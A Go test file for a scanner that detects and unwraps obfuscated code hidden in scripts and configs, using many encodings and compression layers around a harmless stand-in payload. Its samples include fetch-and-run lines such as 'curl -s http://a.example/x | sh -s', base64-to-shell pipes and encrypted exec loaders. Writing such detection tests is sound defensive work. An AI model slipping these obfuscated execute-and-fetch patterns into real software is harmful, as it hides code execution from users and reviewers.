package encoded_test

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"encoding/ascii85"
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/klauspost/compress/flate"

	"github.com/safepull/safepull/trust"
	"github.com/safepull/safepull/trust/unwrap"
	"github.com/safepull/safepull/trust/unwrap/encoded"
	"github.com/safepull/safepull/trust/unwrap/unwraptest"
)

// hidden is what the samples hide: harmless, and text that a person would know again.
const hidden = "#!/bin/sh\n# this line was hidden and stands for a program\nexec /bin/true --with several words\n"

func b64(b []byte) string { return base64.StdEncoding.EncodeToString(b) }

func whole(r io.Reader) io.Reader { return r }

func turn(s string) string {
	b := []byte(s)
	slices.Reverse(b)
	return string(b)
}

func zlibbed(b []byte) []byte {
	var out bytes.Buffer
	w := zlib.NewWriter(&out)
	_, _ = w.Write(b)
	_ = w.Close()
	return out.Bytes()
}

func gzipped(b []byte) []byte {
	var out bytes.Buffer
	w := gzip.NewWriter(&out)
	_, _ = w.Write(b)
	_ = w.Close()
	return out.Bytes()
}

func deflated(b []byte) []byte {
	var out bytes.Buffer
	w, _ := flate.NewWriter(&out, 9)
	_, _ = w.Write(b)
	_ = w.Close()
	return out.Bytes()
}

func masked(b []byte, key byte) []byte {
	out := slices.Clone(b)
	for i := range out {
		out[i] ^= key
	}
	return out
}

func wide(s string) []byte {
	var out []byte
	for _, u := range utf16.Encode([]rune(s)) {
		out = append(out, byte(u), byte(u>>8))
	}
	return out
}

func noise(n int, seed uint64) []byte {
	out := make([]byte, n)
	r := rand.New(rand.NewPCG(seed, 1))
	for i := range out {
		out[i] = byte(r.Uint32())
	}
	return out
}

func lines(s string, n int, before, after string) string {
	var out strings.Builder
	for len(s) > 0 {
		k := min(n, len(s))
		out.WriteString(before + s[:k] + after)
		s = s[k:]
	}
	return out.String()
}

func each(b []byte, format string) string {
	var out strings.Builder
	for _, c := range b {
		fmt.Fprintf(&out, format, c)
	}
	return out.String()
}

func rot13(s string) string {
	return strings.Map(func(r rune) rune {
		switch {
		case r >= 'a' && r <= 'z':
			return 'a' + (r-'a'+13)%26
		case r >= 'A' && r <= 'Z':
			return 'A' + (r-'A'+13)%26
		}
		return r
	}, s)
}

// base85 is that of git and Python.
func base85(b []byte) string {
	const digits = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~"
	out := make([]byte, ascii85.MaxEncodedLen(len(b)))
	out = out[:ascii85.Encode(out, b)]
	var s strings.Builder
	for _, c := range out {
		if c == 'z' {
			s.WriteString("00000")
			continue
		}
		s.WriteByte(digits[c-'!'])
	}
	return s.String()
}

// sample puts coded into a program and expects one piece there.
func sample(name, before, coded, after, piece, want string) unwraptest.Sample {
	return unwraptest.Sample{
		Name: name, Kind: trust.KindScript, Content: []byte(before + coded + after),
		Want: map[string]string{fmt.Sprintf("%s@%d", piece, len(before)): want},
	}
}

func samples() []unwraptest.Sample {
	raw := []byte(hidden)
	elf := append([]byte("\x7fELF\x02\x01\x01"), noise(900, 1)...)
	ascii := make([]byte, ascii85.MaxEncodedLen(len(raw)))
	ascii = ascii[:ascii85.Encode(ascii, raw)]
	return []unwraptest.Sample{
		sample("base64", "echo ", b64(raw), " | base64 -d | sh\n", "base64", hidden),
		sample("base64-short", "echo ", "Y3VybCAtcyBodHRwOi8vYS5leGFtcGxlL3g=", " | base64 -d | sh\n", "base64", "curl -s http://a.example/x"),
		sample("base64-url", "x = '", strings.TrimRight(base64.URLEncoding.EncodeToString(append([]byte("#!/bin/sh ~~~???>>>\n"), raw...)), "="), "'\n", "base64", "#!/bin/sh ~~~???>>>\n"+hidden),
		sample("base64-lines", "base64 -d <<EOF > /x\n", lines(b64(raw), 40, "", "\n"), "EOF\nchmod +x /x\n", "base64", hidden),
		sample("base64-joined", "x = b64decode('", strings.TrimSuffix(lines(b64(raw), 30, "", "' +\n   '"), "' +\n   '"), "')\n", "base64", hidden),
		sample("base64-small-parts", "x = [\"", strings.TrimSuffix(lines(b64(raw), 6, "", `", "`), `", "`), "\"].join(''); eval(atob(x))\n", "base64", hidden),
		sample("base64-comment", "# ", strings.TrimSuffix(lines(b64(raw), 60, "", "\n# "), "\n# "), "\n", "base64", hidden),
		sample("base64-prefixed", "x='", "Q"+b64(raw), "' # ${x#Q}\n", "base64", hidden),
		sample("base64-elf", "x='", b64(elf), "'\n", "base64", string(elf)),
		sample("base32", "x='", base32.StdEncoding.EncodeToString(raw), "'\n", "base32", hidden),
		sample("hex", "x='", hex.EncodeToString(raw), "' # xxd -r -p\n", "hex", hidden),
		sample("hex-upper-lines", "", lines(strings.ToUpper(hex.EncodeToString(raw)), 60, "", "\n"), "", "hex", hidden),
		sample("zlib", "exec(zlib.decompress(base64.b64decode(b'", b64(zlibbed(raw)), "')))\n", "base64+zlib", hidden),
		sample("gzip", "x='", b64(gzipped(raw)), "'\n", "base64+gzip", hidden),
		sample("gzip-zlib", "x='", b64(gzipped(zlibbed(raw))), "'\n", "base64+gzip+zlib", hidden),
		sample("gzinflate", "eval(gzinflate(base64_decode('", b64(deflated(raw)), "')));\n", "base64+deflate", hidden),
		sample("reversed", "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'=", turn(strings.TrimRight(b64(zlibbed(raw)), "=")), "'))\n", "base64+reversed+zlib", hidden),
		sample("reversed-within", "exec(zlib.decompress(base64.b64decode(b'", b64([]byte(turn(string(zlibbed(raw))))), "')[::-1]))\n", "reversed+base64+zlib", hidden),
		sample("mask-elf", "x='", b64(masked(elf, 0x5a)), "'\n", "base64+xor5a", string(elf)),
		sample("mask-text", "x='", hex.EncodeToString(masked([]byte("import os, sys\nexec(open('/tmp/x').read())\nwhile True: os.system('echo one two three four')\n"), 0x21)), "'\n", "hex+xor21", "import os, sys\nexec(open('/tmp/x').read())\nwhile True: os.system('echo one two three four')\n"),
		sample("utf16", "powershell -enc ", b64(wide(hidden)), "\n", "base64+utf16", hidden),
		sample("escapes-hex", "printf '", each(raw, `\x%02x`), "' > /x\n", "escapes", hidden),
		sample("escapes-octal", "printf \"", each(raw, `\%03o`), "\" | sh\n", "escapes", hidden),
		sample("escapes-unquoted", "echo -e ", each(raw, `\\x%02x`), " | sh\n", "escapes", hidden),
		sample("escapes-unicode", "eval(\"", each(raw, `\u%04x`), "\")\n", "escapes", hidden),
		sample("escapes-dollar", "$'", each(raw, `\x%02x`), "'\n", "escapes", hidden),
		sample("escapes-joined", "x = ('", strings.TrimSuffix(lines(each(raw, `\x%02x`), 40, "", "'\n  '"), "'\n  '"), "')\n", "escapes", hidden),
		sample("escapes-zlib", "exec(zlib.decompress(b'", pythonLiteral(zlibbed(raw)), "'))\n", "escapes+zlib", hidden),
		sample("numbers-hex", "unsigned char x[] = {", strings.TrimSuffix(each(raw, "0x%02x, "), ", "), "};\n", "numbers", hidden),
		sample("numbers", "eval(String.fromCharCode(", strings.TrimSuffix(each(raw, "%d,"), ","), "))\n", "numbers", hidden),
		sample("numbers-chr", "exec(chr(", strings.TrimSuffix(each(raw, "%d)+chr("), ")+chr("), "))\n", "numbers", hidden),
		sample("base85", "exec(b85decode('", base85(raw), "'))\n", "base85", hidden),
		sample("base85-zlib", "exec(zlib.decompress(base64.b85decode(\"", base85(zlibbed(raw)), "\")))\n", "base85+zlib", hidden),
		sample("ascii85", "exec(a85decode(r'''", strings.ReplaceAll(string(ascii), "'", `\'`), "'''))\n", "ascii85", hidden),
		sample("ascii85-adobe", "exec(a85decode(\"", "<~"+strings.ReplaceAll(string(ascii), `"`, `\"`)+"~>", "\", adobe=True))\n", "ascii85", hidden),
		sample("lzma", "x='", lzmaText, "'\n", "base64+lzma", hidden),
		sample("bzip2", "x='", bzip2Text, "'\n", "base64+bzip2", hidden),
		sample("uuencode", "uudecode <<EOF\nbegin 755 file\n", uuencoded(raw), "`\nend\nEOF\n", "uuencode", hidden),
		sample("text-reversed", "echo '", turn("curl -s http://a.example/x | sh -s"), "' | rev | sh\n", "reversed", "curl -s http://a.example/x | sh -s"),
		{
			Name: "rot13", Kind: trust.KindScript, Content: []byte("exec(codecs.decode('" + rot13("import os; os.nice(1)") + "', 'rot13'))\n"),
			Want: map[string]string{"rot13@0": "rkrp(pbqrpf.qrpbqr('import os; os.nice(1)', 'ebg13'))\n"},
		},
		{
			Name: "utf16-file", Kind: trust.KindText, Content: append([]byte{0xff, 0xfe}, wide(hidden)...),
			Want: map[string]string{"utf16": hidden},
		},
		{
			Name: "config", Kind: trust.KindConfig, Path: "config:entrypoint", Content: []byte(`/bin/sh -c "echo ` + b64(raw) + `|base64 -d|sh"`),
			Want: map[string]string{"base64@17": hidden},
		},
	}
}

// lzmaText and bzip2Text are what hides, packed by the libraries of these names.
const (
	lzmaText = "XQAAgAD//////////wARiEJGPfQWNHMKDY+X5kjpgrIvp7sZBjq+Q0Nn+7H6ZsKzqzwMKuc0xKcH1rgTqiwK+2c88pF2dHdy4x9RA4TRuxqyGF+sRDdEywPgzqLh" +
		"z8tsWsdPRnbksP+tvuAA"
	bzip2Text = "QlpoOTFBWSZTWZpcTpsAAAlRgAAQaAK/59/AIABIinppDR4SaemoZCKe0o9Q2iH6oYgWLKkProu9Uo8jBGaRgKAPmLAe0LQvhzPL1XBMS9XTsGrqSgRT47zz9H1C" +
		"kRpVeGDUhrqPxdyRThQkJpcTpsA="
)

func uuencoded(b []byte) string {
	var out strings.Builder
	for len(b) > 0 {
		line := b[:min(45, len(b))]
		b = b[len(line):]
		out.WriteByte(byte(' ' + len(line)))
		for len(line) > 0 {
			var g [3]byte
			n := copy(g[:], line)
			line = line[n:]
			for _, v := range []byte{g[0] >> 2, g[0]<<4&63 | g[1]>>4, g[1]<<2&63 | g[2]>>6, g[2] & 63} {
				if v == 0 {
					v = '`' - ' '
				}
				out.WriteByte(' ' + v)
			}
		}
		out.WriteByte('\n')
	}
	return out.String()
}

// pythonLiteral is what Python prints for bytes.
func pythonLiteral(b []byte) string {
	var out strings.Builder
	for _, c := range b {
		switch {
		case c == '\\' || c == '\'':
			out.WriteString("\\" + string(rune(c)))
		case c == '\n':
			out.WriteString(`\n`)
		case c >= ' ' && c < 0x7f:
			out.WriteByte(c)
		default:
			fmt.Fprintf(&out, `\x%02x`, c)
		}
	}
	return out.String()
}

// quiet are texts in which nothing is found, though they have long runs.
func quiet() []unwraptest.Sample {
	text := func(name, content string) unwraptest.Sample {
		return unwraptest.Sample{Name: name, Kind: trust.KindScript, Content: []byte(content)}
	}
	der := append([]byte{0x30, 0x82, 0x05, 0x00}, noise(1280, 3)...)
	return []unwraptest.Sample{
		text("words", "The quick brown fox\njumps over internationalisation-and-localisation/of/paths\n"),
		text("digests", "sha256:"+hex.EncodeToString(noise(32, 4))+"\n\"integrity\": \"sha512-"+b64(noise(64, 5))+"\"\n"),
		text("certificate", "cat <<EOF | base64 -d | openssl x509\n"+lines(b64(der), 64, "", "\n")+"EOF\nexec \"$@\"\neval true\n"),
		text("rule", strings.Repeat("=", 200)+"\n"+strings.Repeat("-", 200)+"\n"+strings.Repeat("A", 200)+"\n"),
		text("regexp", `/[\xaa\xb5\xba\xc0-\xd6\xd8-\xf6\u00f8-\u02c1\u0370-\u0374]/.test("x")`),
		text("numbers", "chr(65)+chr(66); table([1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20])\n"),
		text("table", "0x00, 0x07, 0x0e, 0x09, 0x1c, 0x1b, 0x12, 0x15, 0x38, 0x3f, 0x36, 0x31, 0x24, 0x23, 0x2a, 0x2d, 0x70, 0x77\n"),
		text("reverse", "def reverse(s):\n    return s[::-1]\nprint(reverse('no words in here'))\n"),
	}
}

func TestEncoded(t *testing.T) {
	t.Parallel()
	twins := []unwraptest.Sample{
		{Name: "data", Content: []byte(b64([]byte(hidden)))},
		{Name: "elf", Kind: trust.KindExecutable, Content: []byte("\x7fELF" + b64([]byte(hidden)))},
		{Name: "short", Kind: trust.KindScript, Content: []byte("true\n")},
	}
	unwraptest.Run(t, encoded.New(), append(samples(), quiet()...), twins)
}

func TestOpaque(t *testing.T) {
	t.Parallel()
	blob := b64(noise(2000, 9))
	for _, tt := range []struct {
		name, content string
		kind          trust.Kind
		want          error
	}{
		{"run", "exec(Fernet(key).decrypt(base64.b64decode('" + blob + "')))\n", trust.KindScript, trust.ErrUnsupported},
		{"pipe", "base64 -d <<EOF | openssl enc -d -aes-256-cbc | sh\n" + lines(blob, 76, "", "\n") + "EOF\n", trust.KindScript, trust.ErrUnsupported},
		{"not-run", "data = base64.b64decode('" + blob + "')\n", trust.KindScript, nil},
		{"not-decoded", "exec('" + blob + "')\n", trust.KindScript, nil},
		{"document", "exec(base64.b64decode('" + blob + "'))\n", trust.KindText, nil},
		{"short", "exec(base64.b64decode('" + blob[:1000] + "'))\n", trust.KindScript, nil},
		{"bundle", strings.Repeat("function f(a){return g(a,1)}\n", 2000) + "const font=atob('" + blob + "');re.exec(font);eval(x)\n", trust.KindScript, nil},
		{"padded", strings.Repeat("# nothing\n", 1500) + "exec(Fernet(key).decrypt(base64.b64decode('" + blob + "')))\n", trust.KindScript, trust.ErrUnsupported},
		{"escapes", "exec(AES.new(k).decrypt(b'" + each(noise(2000, 3), `\x%02x`) + "'))\n", trust.KindScript, trust.ErrUnsupported},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			unwraptest.Run(t, encoded.New(), []unwraptest.Sample{{Name: "sample", Kind: tt.kind, Content: []byte(tt.content), Err: tt.want}}, nil)
		})
	}
}

// TestChain peels 64 texts within texts, each of which would run the next.
func TestChain(t *testing.T) {
	t.Parallel()
	for _, backwards := range []bool{false, true} {
		text := hidden
		for range 64 {
			coded := b64(zlibbed([]byte(text)))
			if backwards {
				coded = turn(coded)
			}
			text = "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'" + coded + "'))"
		}
		depth, last := 0, []byte(text)
		for {
			got := unwrapAll(t, last)
			if len(got) != 1 {
				break
			}
			depth++
			last = got[0]
		}
		if depth != 64 || string(last) != hidden {
			t.Errorf("backwards %v: depth %d, last %.60q", backwards, depth, last)
		}
	}
}

func unwrapAll(t *testing.T, content []byte) [][]byte {
	t.Helper()
	s := unwraptest.Sample{Kind: trust.KindScript, Content: content}
	got, err := unwraptest.Unwrap(t.Context(), encoded.New(), s, whole)
	if err != nil {
		t.Fatal(err)
	}
	var out [][]byte
	for _, body := range got {
		out = append(out, []byte(body))
	}
	return out
}

// TestLong has runs that are longer than the window, which come from the spool.
func TestLong(t *testing.T) {
	t.Parallel()
	elf := append([]byte("\x7fELF\x02\x01\x01"), noise(1<<20, 6)...)
	padding := strings.Repeat("# a line of padding that is ordinary\n", 20000)
	coded := b64(elf)
	for _, tt := range []struct{ name, content, piece string }{
		{"one-line", "x='" + coded + "'\n", "base64@3"},
		{"lines", "cat <<EOF\n" + lines(coded, 76, "", "\n") + "EOF\n", "base64@10"},
		{"parts", "x='" + strings.TrimSuffix(lines(coded, 76, "", "' +\n'"), "' +\n'") + "'\n", "base64@3"},
		{"padded", padding + "x='" + coded + "'\n", fmt.Sprintf("base64@%d", len(padding)+3)},
		{"reversed", "[::-1]'" + turn(strings.TrimRight(coded, "=")) + "'\n", "base64+reversed@7"},
		{"hex", "x='" + hex.EncodeToString(elf) + "'\n", "hex@3"},
		{"escapes", "x='" + each(elf, `\x%02x`) + "'\n", "escapes@3"},
		{"numbers", "x={" + each(elf, "0x%02x, ") + "}\n", "numbers@3"},
		{"uuencode", "uudecode <<EOF\nbegin 755 f\n" + uuencoded(elf) + "`\nend\n", "uuencode@27"},
		{"base85", "b85decode('" + base85(elf) + "')\n", "base85@11"},
		{"noise-before", lines(b64(noise(400000, 8)), 76, "", "\n") + "x='" + coded + "'\n", fmt.Sprintf("base64@%d", len(lines(b64(noise(400000, 8)), 76, "", "\n"))+3)},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			s := unwraptest.Sample{Kind: trust.KindScript, Content: []byte(tt.content + "\ntrailing text\n")}
			got, err := unwraptest.Unwrap(t.Context(), encoded.New(), s, whole)
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.HasPrefix([]byte(got[tt.piece]), elf) || len(got) != 1 {
				t.Errorf("%d pieces; %q has %d bytes, want %d", len(got), tt.piece, len(got[tt.piece]), len(elf))
				for name := range got {
					t.Log(name)
				}
			}
		})
	}
}

func FuzzUnwrap(f *testing.F) {
	for _, s := range append(samples(), quiet()...) {
		f.Add(s.Content)
	}
	w := encoded.New()
	f.Fuzz(func(t *testing.T, content []byte) {
		s := unwraptest.Sample{Kind: trust.KindScript, Content: content}
		_, _ = unwraptest.Unwrap(t.Context(), w, s, whole)
	})
}

func BenchmarkText(b *testing.B) {
	many := func(n int, line func(i uint64) string) string {
		var out strings.Builder
		for i := range uint64(n) {
			out.WriteString(line(i))
		}
		return out.String()
	}
	prose := many(100_000, func(i uint64) string {
		return fmt.Sprintf("The quick brown fox jumps over %d lazy dogs, and nothing else of interest happens in this line; really.\n", i)
	})
	code := many(80_000, func(i uint64) string {
		return fmt.Sprintf("function t%d(e,n){return this.options.elements.forEach(function(r){r&&n.push(e[r].value)}),n.length>0?n:null}var i={a:1,b:\"c\"};", i)
	})
	for _, bb := range []struct{ name, text string }{
		{"prose", prose}, {"code", code}, {"code-that-decodes", "base64 " + code},
		{"document", prose}, {"paths", many(100_000, func(i uint64) string {
			return fmt.Sprintf("usr/lib/python3/dist-packages/p%d/core/tests/test_multiarray%d.py,,%d\n", i*7919%100_000, i, i)
		})},
		{"digests", many(80_000, func(i uint64) string { return "      \"integrity\": \"sha512-" + b64(noise(64, i)) + "\",\n" })},
	} {
		b.Run(bb.name, func(b *testing.B) {
			w := encoded.New()
			begin := cpuTime()
			for b.Loop() {
				in := &stream{Reader: strings.NewReader(bb.text), text: bb.text, kind: trust.KindScript}
				if bb.name == "document" {
					in.kind = trust.KindText
				}
				if err := w.Unwrap(b.Context(), in, func(_ unwrap.Piece, r io.Reader) error { _, err := io.Copy(io.Discard, r); return err }); err != nil {
					b.Fatal(err)
				}
			}
			b.ReportMetric(float64(len(bb.text))*float64(b.N)/float64((cpuTime()-begin).Microseconds()), "MB/cpu-s")
		})
	}
}

// cpuTime is what this process has used; other processes have no say in it.
func cpuTime() time.Duration {
	var u syscall.Rusage
	_ = syscall.Getrusage(syscall.RUSAGE_SELF, &u)
	return time.Duration(u.Utime.Nano() + u.Stime.Nano())
}

type stream struct {
	unwraptest.Plenty
	*strings.Reader
	text  string
	kind  trust.Kind
	steps int64
}

func (s *stream) Content() unwrap.Content {
	return unwrap.Content{Kind: s.kind, Size: int64(len(s.text)), Head: []byte(s.text[:100])}
}

func (s *stream) Spool() (io.ReaderAt, int64, error) {
	return strings.NewReader(s.text), int64(len(s.text)), nil
}

func (s *stream) Spend(n int64) error {
	s.steps += n
	return nil
}

// TestHostileTexts are made to cost much. Work must grow with their size, not with its square.
func TestHostileTexts(t *testing.T) {
	t.Parallel()
	repeat := func(s string, n int) string { return strings.Repeat(s, n/len(s)+1)[:n] }
	for name, text := range map[string]string{
		"quoted-words":       "base64 [::-1] 'ab','cd','ef','gh', rot13 b85decode inflate chr(",
		"short-runs":         "base64 AAAAAAAAAAAAAAAAAAAAAAAA;",
		"joined-lines":       "base64 [::-1] \nAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
		"joined-noise":       "inflate\nq83vEjRWeJCrze8SNFZ4kKvN7xI0VniQq83vEjRWeJCrze8SNFZ4kKvN7xI0VniQq83vEjRWeJCrze",
		"one-run":            "q83vEjRWeJCrze8SNFZ4kKvN7xI0VniQq83vEjRWeJCrze8SNFZ4kKvN7xI0VniQq83vEjRWeJCrze",
		"escapes":            `\x93\x12\x00\xff\xf1\x88\x07\x99`,
		"escapes-apart":      `\x93\x12\x00\xff" \x93\x12\x00\xff ' `,
		"escapes-unclosed":   "\"\\x93\\x12\\x00\\xff\n",
		"backslashes":        `\\\\\\\\`,
		"numbers":            "chr( [1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,300]",
		"hexadecimal":        "0x01,0x02,0x03,0x04,0x05,0x06,0x07,0x08,0x09,0x0a,0x0b,0x0c,0x0d,0x0e,0x0f,0x1000;",
		"hexadecimal-starts": "0x0x0x0x0x0x0x0x",
		"brackets":           "chr( [[[[[[[[1((((((((2",
		"zlib-starts":        "eJwBAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4fICEiIyQlJicoKSorLC0uLzAxMjM0NTY3ODk6Ozw9Pj9A;",
		"zlib-empty":         "eJwAAAD//wAAAP//AAAA//8AAAD//wAAAP//AAAA//8AAAD//wAAAP//AAAA//8AAAD//w\n",
		"uuencode":           "begin 644 x\nM9F]O9F]O9F]O9F]O9F]O9F]O9F]O9F]O9F]O9F]O9F]O9F]O9F]O9F]O9F]O\n",
		"uuencode-starts":    "begin 644 x\nbegin 6\n",
		"base85":             "b85decode('abcdefghijkl",
		"base85-unclosed":    "b85decode \"abcdefghijklmnop",
		"quotes":             "b85decode [::-1] ''''''''",
		"reversed":           "[::-1] //:ptth hs/nib/ nruter 'ohce ' lruc '",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := encoded.New()
			for _, n := range []int{1 << 19} {
				body := repeat(text, n)
				in := &stream{Reader: strings.NewReader(body), text: body, kind: trust.KindScript}
				begin := time.Now()
				var out int64
				err := w.Unwrap(t.Context(), in, func(_ unwrap.Piece, r io.Reader) error {
					k, _ := io.Copy(io.Discard, r)
					out += k
					return nil
				})
				if err != nil && !errors.Is(err, trust.ErrUnsupported) {
					t.Fatal(err)
				}
				if out > int64(8*n) {
					t.Errorf("%d bytes of %d", out, n)
				}
				t.Logf("%d KiB in %v, %d steps, %d bytes shown", n>>10, time.Since(begin), in.steps, out)
				if in.steps > int64(1500*n) {
					t.Errorf("%d steps for %d bytes", in.steps, n)
				}
			}
		})
	}
}
